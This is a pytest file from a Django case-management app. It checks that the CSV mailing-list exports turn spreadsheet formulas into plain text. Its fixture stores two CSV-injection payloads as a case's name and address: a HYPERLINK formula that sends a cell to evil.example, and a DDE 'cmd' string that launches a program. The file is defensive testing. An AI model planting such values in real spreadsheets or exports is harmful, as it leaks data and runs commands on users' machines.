"""The mailing lists of today's mail (the staff page's and print_letters'): no cell becomes a formula."""

import csv
import io

import pytest
from django.core.management import call_command

from privacydesk.cases.models import Case
from privacydesk.letters.services import letter_draft, letter_submit
from tests.conftest import sign_in
from tests.letters.helpers import decided_request

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def case(organization, reception, supervisor):
    case = decided_request(organization, reception, supervisor)
    Case.objects.filter(pk=case.pk).update(name=HYPERLINK, address=ADDRESS)
    letter_submit(letter_id=letter_draft(case=case, kind="acknowledgement", actor=reception).pk, actor=reception)
    return case


def rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel in Japan reads UTF-8 only with it
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_mailing_list_page_exports_a_formula_as_text(client, case, reception):
    sign_in(client, reception)
    header, row = rows(client.get("/en/staff/mail/list.csv").content.decode("utf-8"))
    assert row[header.index("Name")] == "'" + HYPERLINK
    assert row[header.index("Address")] == "'" + ADDRESS


def test_print_letters_writes_a_formula_as_text(case, tmp_path):
    call_command("print_letters", out=str(tmp_path / "mail.pdf"), csv=str(tmp_path / "list.csv"), stdout=io.StringIO())
    header, row = rows((tmp_path / "list.csv").read_text(encoding="utf-8"))
    assert row[header.index("name")] == "'" + HYPERLINK
    assert row[header.index("address")] == "'" + ADDRESS
